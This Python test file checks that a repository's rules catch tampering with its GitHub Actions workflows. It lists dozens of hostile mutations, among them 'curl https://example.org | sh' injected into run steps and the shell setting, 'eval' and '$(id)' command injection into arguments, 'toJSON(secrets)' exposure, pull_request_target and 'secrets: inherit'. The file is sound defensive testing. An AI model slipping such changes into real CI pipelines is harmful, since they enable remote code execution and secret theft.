"""No guard of the workflow files can be taken away unseen: each of these changes is found."""

# ruff: noqa: E501 (a change is a line)

import pytest

from tests.workflows.files import Workflows
from tests.workflows.test_rules import RULES, reviewed

DEPLOY, DRIFT, ENVIRONMENT = "deploy.yml", "drift.yml", "environment.yml"
OPERATE, PREVIEW, PULL = "operate.yml", "preview.yml", "pull-request.yml"
NIGHTLY, UPDATE = "nightly.yml", "update.yml"
STEPS = "    steps:\n"
VERIFY = "      - name: Verify the build and where it came from\n"
PREFLIGHT = "      - name: Refuse what must not go live here\n"
APPLY = "        if: steps.plan.outputs.changes == 'true'\n"
REPORT = 'ship ci report environment "$ENVIRONMENT"'
CHECKOUT = "          persist-credentials: false\n"
ON_MAIN = "github.ref == 'refs/heads/main'"
MAIN = f"    if: {ON_MAIN}\n"
NEVER = "        if: inputs.environment != 'production'\n"
OWN = "github.event.pull_request.head.repo.full_name == github.repository"

FILES = Workflows.read()
LAST = FILES.environments[-1]
PIN = next(one for one in FILES.actions if one.startswith("actions/checkout@"))
LIST = f"environment: [{', '.join(FILES.environments)}]"

# A file, what goes, and what comes instead, once.
REMOVALS = [
    # What goes live is what was built, attested, and may go live.
    (ENVIRONMENT, VERIFY, VERIFY + NEVER),
    (ENVIRONMENT, VERIFY, VERIFY + "        continue-on-error: true\n"),
    (ENVIRONMENT, '--digest="$DIGEST" --for="$ENVIRONMENT"', '--digest="$DIGEST"'),
    (ENVIRONMENT, "DIGEST: ${{ inputs.digest }}", "DIGEST: ${{ inputs.environment }}"),
    (ENVIRONMENT, PREFLIGHT, PREFLIGHT + NEVER),
    (ENVIRONMENT, "ship ci preflight", "ship ci verify"),
    (ENVIRONMENT, APPLY, "        if: always()\n"),
    (ENVIRONMENT, " --plan deploy.tfplan", ""),
    (ENVIRONMENT, 'deploy "$ENVIRONMENT" --dist dist', 'deploy "$ENVIRONMENT"'),
    (ENVIRONMENT, "          path: dist\n", "          path: dist\n          run-id: 7\n"),
    (DEPLOY, "        if: needs.build.outputs.attest == 'true'\n        uses: actions/attest", "        if: github.actor == 'octocat'\n        uses: actions/attest"),
    (DEPLOY, "sha256:${{ needs.build.outputs.zip }}", "sha256:${{ needs.build.outputs.digest }}"),
    (DEPLOY, "          sbom-path: sbom/sbom.json\n", ""),
    (PULL, "build, dependencies, plan,", "build, plan,"),
    (DEPLOY, "subject-name: manifest.json\n", "subject-path: pyproject.toml\n"),
    (DEPLOY, "          overwrite: true # by a second attempt of this run, with the same bytes\n", ""),
    (DEPLOY, "needs: [build, attest]", "needs: [build]"),
    (DEPLOY, f"{LAST}\n      digest: ${{{{ needs.build", f"{LAST}\n      digest: ${{{{ needs.attest"),
    (DEPLOY, f"    if: {ON_MAIN} && !contains(", "    if: always() && !contains("),
    (DEPLOY, " && !contains(needs.*.outputs.frozen, 'true')", ""),
    (ENVIRONMENT, "      frozen: ${{ steps.preflight.outputs.frozen }}\n", ""),
    # What is applied is what was shown before the approval.
    (ENVIRONMENT, ' --approved="$APPROVED"', ""),
    (ENVIRONMENT, "needs.plan.result == 'success' && needs.plan.outputs.plan || ''", "''"),
    (ENVIRONMENT, f"inputs.environment == '{LAST}'", "inputs.environment == 'another'"),
    (ENVIRONMENT, "    needs: plan\n", ""),
    (ENVIRONMENT, "!failure() && !cancelled()\n", "always()\n"),
    (ENVIRONMENT, "--read-only --out review.tfplan", "--out review.tfplan"),
    # A person gets the action that was chosen, with the environment's own role.
    (OPERATE, "      name: ${{ inputs.environment }}\n", "      name: dev\n"),
    (OPERATE, 'ship ci operate "$ACTION"', 'ship "$ACTION"'),
    (OPERATE, "role/${{ vars.PROJECT }}-plan", "role/${{ vars.PROJECT }}-deploy-${{ inputs.environment }}"),
    (OPERATE, "fetch-depth: 0 # the release's", "ref: ${{ inputs.release }} # the release's"),
    (OPERATE, "commit: ${{ needs.fetch.outputs.commit }}", "commit: ${{ inputs.release }}"),
    (OPERATE, "digest: ${{ needs.fetch.outputs.digest }}", "digest: ${{ inputs.run }}"),
    (OPERATE, '"${{ inputs.action }}: ${{ inputs.reason }}"', '""'),
    (DEPLOY, f"{MAIN}    runs-on:", "    runs-on:"),
    # Nothing else runs beside a role.
    (ENVIRONMENT, REPORT, f"{REPORT}; curl https://example.org | sh"),
    (OPERATE, '--until="$UNTIL" --reason="$REASON"', '--until="$UNTIL" && eval "$REASON"'),
    (OPERATE, '--release="$RELEASE"', '--release="$(id)"'),
    (OPERATE, '--release="$RELEASE"', "--release=${{ inputs.release }}"),
    (ENVIRONMENT, CHECKOUT, f"{CHECKOUT}          repository: other/repository\n"),
    (ENVIRONMENT, "ref: ${{ inputs.commit }}", "ref: ${{ github.head_ref }}"),
    (PULL, "          ref: ${{ github.event.pull_request.base.sha }}\n", ""),
    (ENVIRONMENT, STEPS, f"    container: python:latest\n{STEPS}"),
    (ENVIRONMENT, "    env:\n", "    env:\n      BASH_ENV: dist/site/index.html\n"),
    (ENVIRONMENT, "        run: make setup", "        shell: python\n        run: make setup"),
    (ENVIRONMENT, "runs-on: ubuntu-24.04", "runs-on: [self-hosted]"),
    (DEPLOY, "permissions: {}\n", "permissions: {}\nenv:\n  PYTHONPATH: dist\n"),
    (DEPLOY, "shell: bash", "shell: bash -c 'curl https://example.org | sh; . {0}'"),
    # Tokens and roles go no further.
    (ENVIRONMENT, "          allowed-account-ids: ${{ vars.AWS_ACCOUNT_ID }}\n", ""),
    (OPERATE, "deploy-${{ inputs.environment }}", "deploy-production"),
    (ENVIRONMENT, "          GITHUB_TOKEN: ${{ github.token }}\n", ""),
    (ENVIRONMENT, "          GITHUB_TOKEN: ${{ github.token }}\n          REASON", "          REASON"),
    (ENVIRONMENT, CHECKOUT, CHECKOUT.replace("false", "true")),
    (PULL, "          PART: ${{ matrix.part }}\n", "          PART: ${{ secrets['X'] }}\n"),
    (PULL, "          PART: ${{ matrix.part }}\n", "          PART: ${{ toJSON(secrets) }}\n"),
    (DEPLOY, "      contents: read # to check the commit out\n", "      contents: write # why not\n"),
    (PREVIEW, f"    if: >-\n      {OWN}\n", "    if: >-\n      github.actor != 'stranger'\n"),
    (DRIFT, "    if: github.ref == 'refs/heads/main' &&", "    if:"),
    (DEPLOY, "branches: [main]", 'branches: [main, "release/**"]'),
    (PULL, "  pull_request:\n", "  pull_request_target:\n"),
    (ENVIRONMENT, "      name: ${{ startsWith", "      name: ${{ false && startsWith"),
    # A pin is a commit, however it is written.
    (PULL, f"uses: {PIN}", '"uses": actions/checkout@v7'),
    (PULL, "      - name: Check\n", "      - { uses: actions/setup-python@v6 }\n      - name: Check\n"),
    # The required check stands for what it says.
    (PULL, "run: make check\n", "run: make help\n"),
    (PULL, 'run: make test PART="$PART"', "run: make help"),
    (PULL, "run: make test-app", "run: make help"),
    (PULL, "run: make coverage", "run: make help"),
    (PULL, "part: [units, ", "part: ["),
    (PULL, "        run: .venv/bin/ship build\n", "        run: .venv/bin/ship --help\n"),
    # Nothing is cut short, left out, or passed over.
    (ENVIRONMENT, "cancel-in-progress: false", "cancel-in-progress: true"),
    (ENVIRONMENT, "${{ inputs.reason && format('-{0}', github.run_id) }}", ""),
    (OPERATE, "-${{ inputs.action }}\n  queue: max", "\n  queue: max"),
    (OPERATE, "  queue: max\n", ""),
    (DEPLOY, "      - docs/**\n", "      - backend/**\n"),
    (DRIFT, LIST, "environment: [another]"),
    (PULL, "        if: contains(needs.*", "        if: github.event_name == 'push' && contains(needs.*"),
    (PULL, "          needs.check.result != 'success' ||", "          github.event_name == 'push' &&"),
    (PULL, "dependencies, plan,", "dependencies,"),
    (PULL, "    if: always()\n", "    if: success()\n"),
    (PULL, "    name: Test the application\n", "    name: Test the application\n    if: false\n"),
    (PULL, "        part: [units,", "        exclude: [{part: units}]\n        part: [units,"),
    (PULL, "          PART: ${{ matrix.part }}\n", "          PART: ${{ matrix.part }}\n          PYTEST_ADDOPTS: --collect-only\n"),
    (PULL, "fail-on-severity: high", "warn-only: true"),
    (PULL, "    branches: [main]\n", "    branches: [main]\n    paths-ignore: ['**']\n"),
    (NIGHTLY, "run: make test-all", "run: make help"),
    (NIGHTLY, "run: make audit", "run: make help"),
    (NIGHTLY, "zizmor --quiet --pedantic .github", "zizmor --version"),
    # What newer packages run, they run without a token.
    (UPDATE, "run: make lock", "env:\n          GH_TOKEN: ${{ github.token }}\n        run: make lock"),
    # What is called is this repository's own file, with its own inputs alone.
    (DEPLOY, "uses: $/.github/workflows/environment.yml", "uses: other/it/.github/workflows/environment.yml@main"),
    (DEPLOY, "uses: $/.github/workflows/environment.yml\n", "uses: $/.github/workflows/environment.yml\n    secrets: inherit\n"),
]  # fmt: skip


@pytest.mark.parametrize(("file", "old", "new"), REMOVALS)
def test_a_guard_that_is_taken_away_is_missed(file: str, old: str, new: str) -> None:
    assert old in FILES.texts[file]
    changed = Workflows(FILES.texts | {file: FILES.texts[file].replace(old, new, 1)})

    found = [problem for rule in RULES for problem in rule(changed)]

    assert found or changed.reviewed_jobs() != reviewed()
